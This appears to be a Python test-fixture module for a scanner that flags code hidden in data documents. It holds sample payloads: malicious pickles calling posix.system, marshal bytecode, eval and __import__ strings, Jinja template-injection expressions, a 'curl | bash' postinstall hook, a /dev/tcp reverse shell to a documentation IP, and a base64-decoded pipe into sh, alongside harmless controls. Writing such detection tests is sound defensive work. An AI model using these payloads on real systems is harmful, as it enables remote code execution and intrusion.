"""Texts in documents that a program decodes, evaluates, renders or gives to a shell."""

from __future__ import annotations

import base64
import gzip
import io
import marshal
import zipfile
from typing import Any

from tests.attacks.documents.case import Case, text

PICKLE = b"\x80\x04\x8c\x05posix\x8c\x06system\x93\x8c\x06echo a\x85R."
OLD_PICKLE = b"cposix\nsystem\n(S'echo a'\ntR."


def _zipped() -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as archive:
        archive.writestr("data.pkl", PICKLE)
    return held.getvalue()


def _base64(data: bytes) -> str:
    return base64.b64encode(data).decode()


_CODE = _base64(marshal.dumps(compile("import os\nos.system('echo a')", "layer", "exec")))
_SSTI = "{{ messages.__class__.__base__.__subclasses__()[1]('echo a') }}"
_RUNS = "import os\nfor name in ('a', 'b'):\n    os.system(f'echo {name}')\n"

_PACKED: dict[str, Any] = {
    "base64-pickle": {"policy_class": {":type:": "x", ":serialized:": _base64(PICKLE)}},
    "base64-old-pickle": {"state": _base64(OLD_PICKLE)},
    "base64-url-safe": {
        "state": base64.urlsafe_b64encode(PICKLE + b"\xff" * 7).decode().rstrip("=")
    },
    "base64-lines": {"state": base64.encodebytes(PICKLE).decode()},
    "base64-gzip": {"a": [{"b": [_base64(gzip.compress(PICKLE))]}]},
    "base64-zip": {"weights": _base64(_zipped())},
    "hex-pickle": {"_type": "CLOUDPICKLE_FALLBACK", "value": PICKLE.hex()},
    "hex-upper": {"value": "0x" + PICKLE.hex().upper()},
    "data-url": {"value": f"data:application/octet-stream;base64,{_base64(PICKLE)}"},
    "in-a-notebook": {"nbformat": 4, "cells": [], "state": _base64(PICKLE)},
    "prefixed": {"__nni_type__": f"bytes:{_base64(PICKLE)}"},
}
_EVALUATED: dict[str, Any] = {
    "import": {"names": "{0: __import__('os').system('echo a')}"},
    "subclasses": {"size": "().__class__.__base__.__subclasses__()[104].load_module('os')"},
    "in-a-list": {"backbone": [[-1, 1, "__import__('os').system('echo a')", []]]},
    "statements": {"download": "m = __import__('subprocess')\nm.run(['echo', 'a'])"},
}
_RUN: dict[str, Any] = {
    "exec": {"code": "exec(open('more').read())"},
    "system": {"download": _RUNS},
    "alias": {"value": "from subprocess import check_output as f\nf(['echo', 'a'])"},
    "broken": {"value": "if x: __import__('os').system('echo a') else"},
}
_COMMANDS: dict[str, Any] = {
    "download": {"scripts": {"postinstall": "curl -s https://example.org/x | bash"}},
    "shell-out": {"command": "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"},
    "decoded": {"args": ["-c", "echo ZWNobyBh | base64 -d | sh"]},
}
_TEMPLATES: dict[str, Any] = {
    "unlisted-key": {"instruction_template": _SSTI},
    "prompt": {"prompts": [{"system": _SSTI}]},
    "in-a-tag": {"p": "{% for x in ''.__class__.__mro__ %}{{ x }}{% endfor %}"},
}
CASES = [
    *(Case(name=f"packed-{name}", data=text(value), rule="SW-PKL-001")
      for name, value in _PACKED.items()),
    Case(name="bytecode", data=text({"preprocess": _CODE}), rule="SW-DOC-003"),
    *(Case(name=f"evaluated-{name}", data=text(value), rule="SW-DOC-004")
      for name, value in _EVALUATED.items()),
    *(Case(name=f"run-{name}", data=text(value), rule="SW-DOC-005", ends="review")
      for name, value in _RUN.items()),
    *(Case(name=f"command-{name}", data=text(value), rule="SW-DOC-006", ends="review")
      for name, value in _COMMANDS.items()),
    *(Case(name=f"template-{name}", data=text(value), rule="SW-JINJA-001")
      for name, value in _TEMPLATES.items()),
    Case(
        name="yaml-block", path="data.yaml", rule="SW-DOC-005", ends="review",
        data=("download: |\n" + "".join(f"  {line}\n" for line in _RUNS.splitlines())).encode(),
    ),
    Case(
        name="toml", path="args.toml", rule="SW-DOC-004",
        data=b"names = \"__import__('os').system('echo a')\"\n",
    ),
]  # fmt: skip

HARMLESS: dict[str, Any] = {
    "prompt": {"system": "You are a helpful system. Evaluate (and execute) plans; use base64."},
    "template": {"prompt": "Hello {{ name }}, {% if os %}{{ os }}{% endif %} {{ vars.A }}"},
    "expression": {"lr": "cosine(0.1, warmup=5)", "act": "nn.SiLU()"},
    "download": {"download": "from pathlib import Path\nPath('a').mkdir()\nprint('done')"},
    "address": {"download": "https://example.org/coco128.zip"},
    "plain-pickle": {
        "state": _base64(b"\x80\x04\x95\x06\x00\x00\x00\x00\x00\x00\x00]\x94(K\x01e.")
    },
    "digests": {"sha256": "8004e1" + "07" * 29, "id": "gAEV" + "x" * 30, "key": "Yw" + "A" * 62},
    "tokens": {"vocab": ["{{", "%}", "__init__", "exec", "eval(", "<|system|>", "os.system"]},
    "command": {"cmd": "python train.py --data data && pip list", "run": "sh run.sh"},
    "code": {"text": "def f(x):\n    return super().__init__(x)\n"},
}
"""Texts that have a mark, and that nothing is to be said about."""
